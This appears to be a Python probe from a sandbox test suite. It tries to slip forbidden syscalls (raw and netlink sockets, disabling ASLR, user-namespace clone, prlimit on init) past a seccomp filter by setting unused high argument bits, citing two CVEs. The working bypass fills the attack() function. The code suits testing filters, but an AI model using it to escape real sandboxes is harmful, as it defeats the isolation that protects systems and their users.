"""Hide a forbidden argument behind bits that the kernel does not read.

Technique: the kernel reads 32 bits of most arguments, the filter sees 64. One that compares all 64 with a deny-list lets the rest
    pass: CVE-2019-10063 (Flatpak, TIOCSTI), CVE-2019-7303 (snapd).
Success: the kernel takes one of them for what its lower half says.
Stopped by: seccomp
"""

import socket

HIGH = (1 << 32, 1 << 63, 0xDEAD_BEEF << 32)


def attack():
    attempts, somewhere = [], socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    addresses = ctypes.create_string_buffer(16)
    for bits in HIGH:
        attempts += [
            ("netlink socket", "socket", (16 | bits, 3, 0)),
            ("raw socket", "socket", (2 | bits, 3 | bits, 1)),
            ("no random addresses", "personality", (0x0004_0000 | bits,)),
            ("filter", "prctl", (22 | bits, 2, 0)),
            ("addresses of the network", "ioctl", (somewhere.fileno() | bits, 0x8912 | bits, addresses)),
            ("limits of init", "prlimit64", (1 | bits, 7, None, ctypes.create_string_buffer(16))),
            ("user namespace", "clone", (0x1000_0011 | bits, 0, 0, 0, 0)),
        ]
    won = []
    for name, call, arguments in attempts:
        came = answer(forked, lambda call=call, arguments=arguments: str(syscall(call, *arguments)))
        # ENOTTY is the filter's word for an ioctl. EFAULT: a filter was looked for.
        if came not in ("EPERM", "ENOSYS", "ENOTTY", "EINVAL", "EAFNOSUPPORT", "EPROTONOSUPPORT", "ESOCKTNOSUPPORT", "EACCES", "ESRCH"):
            won.append(f"{name}: {came}")
    return won and f"{won}"


def twin():
    """Arguments that C code left dirty above 32 bits are read as what they mean."""
    assert syscall("personality", 0xDEAD_BEEF_FFFF_FFFF) >= 0
    fd = syscall("socket", 2 | 1 << 40, 1 | 1 << 40, 0)
    os.close(fd)
